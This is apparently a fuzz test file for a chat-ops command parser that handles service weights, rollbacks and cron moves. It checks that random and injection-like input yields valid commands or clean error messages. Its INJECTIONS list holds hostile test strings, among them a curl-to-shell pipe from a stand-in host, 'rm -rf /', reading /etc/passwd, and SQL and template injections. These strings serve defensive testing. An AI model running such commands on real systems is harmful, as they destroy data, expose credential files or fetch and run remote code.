import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Command, type KnownNames, parseCommand } from '../../src/core/command.js';
import { BadCommand, UnknownCronJob, UnknownService } from '../../src/core/errors.js';

const known: KnownNames = { services: ['api', 'web', 'checkout-v2'], cronJobs: ['nightly-report', 'cleanup'] };
const targets = [...known.services, ...known.cronJobs];

const MAX_MESSAGE = 300;
/** `shown()` quotes 40 characters plus an ellipsis; known names are shorter. */
const MAX_QUOTED = 41;
const MAX_REASON = 501;

const INJECTIONS = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0ADMIN>',
  '<#C0GENERAL>',
  '<http://evil.example|click me>',
  '&amp;',
  '`rm -rf /`',
  '```',
  '${process.exit(1)}',
  '{{7*7}}',
  "'; DROP TABLE requests; --",
  '" OR 1=1 --',
  '$(reboot)',
  '| cat /etc/passwd',
  '&& curl evil.example | sh',
  '\u0000',
  '\u0007',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u202e',
  '\u200f',
  '\u2066',
  '\ufeff',
  '\u200b',
  '\ud800',
  '\udfff',
  '👩‍👩‍👧‍👦',
  'é',
  '%00',
  '%',
  '#',
  '#-1',
  '\\',
];

const WORDS = [
  'help',
  'status',
  'history',
  'cancel',
  'cron',
  'drift',
  'rollback',
  'k8s',
  'kubernetes',
  'ec2',
  'API',
  'Web',
  'Nightly-Report',
  ...targets,
  '0',
  '30',
  '30%',
  '100',
  '101',
  '-1',
  '#12',
  '12.5',
  '999999999',
  '9999999999',
  ...INJECTIONS,
];

function assertWellFormed(cmd: Command): void {
  switch (cmd.kind) {
    case 'help':
    case 'drift':
    case 'cron-list':
    case 'report':
      expect(Object.keys(cmd)).toEqual(['kind']);
      return;
    case 'status':
    case 'history':
      if ('target' in cmd) expect(targets).toContain(cmd.target);
      return;
    case 'cancel':
      expect(Number.isSafeInteger(cmd.requestId)).toBe(true);
      expect(cmd.requestId).toBeGreaterThanOrEqual(0);
      return;
    case 'weight':
      expect(known.services).toContain(cmd.service);
      expect(Number.isInteger(cmd.percent)).toBe(true);
      expect(cmd.percent).toBeGreaterThanOrEqual(0);
      expect(cmd.percent).toBeLessThanOrEqual(100);
      expect(cmd.reason.length).toBeLessThanOrEqual(MAX_REASON);
      expect(cmd.reason).toBe(cmd.reason.trim());
      return;
    case 'rollback':
      expect(known.services).toContain(cmd.service);
      expect(cmd.reason.length).toBeLessThanOrEqual(MAX_REASON);
      return;
    case 'ramp':
      expect(known.services).toContain(cmd.service);
      for (const s of cmd.steps ?? []) expect(s >= 0 && s <= 100 && Number.isInteger(s)).toBe(true);
      expect(cmd.reason.length).toBeLessThanOrEqual(MAX_REASON);
      return;
    case 'cron-move':
      expect(known.cronJobs).toContain(cmd.job);
      expect(['kubernetes', 'ec2']).toContain(cmd.to);
      expect(cmd.reason.length).toBeLessThanOrEqual(MAX_REASON);
      return;
    default: {
      const never: never = cmd;
      throw new Error(`unexpected command ${JSON.stringify(never)}`);
    }
  }
}

function assertReadableRefusal(err: unknown): void {
  // Anything else (TypeError, RangeError from a regex) would surface as a generic failure in Slack.
  const typed = err instanceof BadCommand || err instanceof UnknownService || err instanceof UnknownCronJob;
  if (!typed) throw err;
  const { message } = err;
  expect(message.length).toBeGreaterThan(0);
  expect(message.length).toBeLessThan(MAX_MESSAGE);
  // Quoted user text is stripped of control characters, so the message stays one clean line.
  expect(message).not.toMatch(/[\u0000-\u001f\u007f]/);
  // Backticks are stripped from quoted text, so code spans always pair up and nothing leaks out of them.
  const ticks = message.split('`').length - 1;
  expect(ticks % 2).toBe(0);
  const quoted = message.split('`').filter((_, i) => i % 2 === 1);
  for (const piece of quoted) expect(piece.length).toBeLessThanOrEqual(MAX_QUOTED);
}

function check(text: string): void {
  let cmd: Command;
  try {
    cmd = parseCommand(text, known);
  } catch (err) {
    assertReadableRefusal(err);
    return;
  }
  assertWellFormed(cmd);
}

const whitespace = fc.constantFrom(' ', '  ', '\t', '\n', '\u00a0', '\u3000');
const word = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }) },
  { weight: 1, arbitrary: fc.integer({ min: -1000, max: 1000 }).map(String) },
);
const randomCase = (w: string) =>
  fc.array(fc.boolean(), { minLength: w.length, maxLength: w.length }).map((up) =>
    [...w].map((c, i) => (up[i] ? c.toUpperCase() : c)).join(''),
  );
const oneOfWords = (ws: readonly string[]) => fc.constantFrom(...ws).chain(randomCase);
const slot = (valid: fc.Arbitrary<string>) => fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: word });
const tail = fc.array(word, { maxLength: 6 });

/** Each shape of the grammar with every slot sometimes valid, sometimes junk, so successes are reached too. */
const shaped = fc.oneof(
  fc.tuple(slot(oneOfWords(known.services)), slot(fc.integer({ min: 0, max: 100 }).map((n) => `${n}${n % 2 ? '%' : ''}`)), tail),
  fc.tuple(slot(oneOfWords(known.services)), slot(randomCase('rollback')), tail),
  fc.tuple(slot(randomCase('cron')), slot(oneOfWords(known.cronJobs)), slot(oneOfWords(['k8s', 'kubernetes', 'ec2'])), tail),
  fc.tuple(slot(randomCase('cancel')), slot(fc.nat({ max: 1e9 }).map((n) => (n % 2 ? `#${n}` : `${n}`)))),
  fc.tuple(slot(oneOfWords(['status', 'history'])), fc.option(slot(oneOfWords(targets)), { nil: undefined })),
  fc.tuple(slot(oneOfWords(['help', 'drift', 'cron']))),
).map((parts) => parts.flat().filter((p): p is string => p !== undefined));

/** Sentences built from the grammar's own vocabulary reach the success paths, not only the refusals. */
const sentence = fc
  .oneof(shaped, fc.array(word, { maxLength: 8 }))
  .chain((ws) => fc.array(whitespace, { minLength: ws.length, maxLength: ws.length }).map((gaps) => ws.map((w, i) => w + gaps[i]).join('')));

describe('parseCommand under arbitrary input', () => {
  it('arbitrary grapheme strings give a well-formed command or a readable refusal', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 200 }), check), { numRuns: 500 });
  });

  it('arbitrary code-unit strings, lone surrogates included, give a well-formed command or a readable refusal', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), check), { numRuns: 500 });
  });

  it('sentences of commands, names, numbers and injections give a well-formed command or a readable refusal', () => {
    const seen = new Set<string>();
    fc.assert(
      fc.property(sentence, (text) => {
        check(text);
        try {
          seen.add(parseCommand(text, known).kind);
        } catch {
          seen.add('refused');
        }
      }),
      { numRuns: 3000 },
    );
    // Guards the generator: a fuzz that only ever hits refusals would prove nothing about successes.
    expect([...seen].sort()).toEqual(
      ['cancel', 'cron-list', 'cron-move', 'drift', 'help', 'history', 'refused', 'rollback', 'status', 'weight'].sort(),
    );
  });

  it('every injection-like string in every position gives a well-formed command or a readable refusal', () => {
    for (const bad of INJECTIONS) {
      for (const text of [
        bad,
        `${bad} 30`,
        `${bad} rollback`,
        `api ${bad}`,
        `api 30 ${bad}`,
        `api rollback ${bad}`,
        `cancel ${bad}`,
        `status ${bad}`,
        `history ${bad}`,
        `cron ${bad}`,
        `cron cleanup ${bad}`,
        `cron cleanup k8s ${bad}`,
        `a${bad}b 30`,
      ]) {
        check(text);
      }
    }
  });

  it('injection-like text in a reason is kept for the renderer to escape, not dropped', () => {
    const cmd = parseCommand('api 30 <!channel> `x` ${y}', known);
    expect(cmd).toEqual({ kind: 'weight', service: 'api', percent: 30, reason: '<!channel> `x` ${y}' });
  });

  it('a 10k-character line of random text stays bounded', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme-ascii', minLength: 10_000, maxLength: 10_000 }), check), {
      numRuns: 20,
    });
  });

  it.each([
    ['one long unknown word', 'x'.repeat(10_000)],
    ['one long unknown word before a weight', `${'x'.repeat(10_000)} 30`],
    ['one long weight', `api ${'9'.repeat(10_000)}`],
    ['one long request number', `cancel ${'1'.repeat(10_000)}`],
    ['one long cron job', `cron ${'j'.repeat(10_000)} k8s`],
    ['one long placement', `cron cleanup ${'p'.repeat(10_000)}`],
    ['a long reason', `api 30 ${'why '.repeat(2_500)}`],
    ['many short words', `api 30 ${'a '.repeat(5_000)}`],
    ['only whitespace', ' \t\n'.repeat(3_400)],
  ])('10k characters: %s', (_, text) => {
    expect(text.length).toBeGreaterThanOrEqual(10_000);
    check(text);
  });

  it('a long reason is cut to 500 characters plus an ellipsis', () => {
    const cmd = parseCommand(`api 30 ${'why '.repeat(2_500)}`, known);
    expect(cmd.kind).toBe('weight');
    expect((cmd as Extract<Command, { kind: 'weight' }>).reason).toHaveLength(MAX_REASON);
  });
});
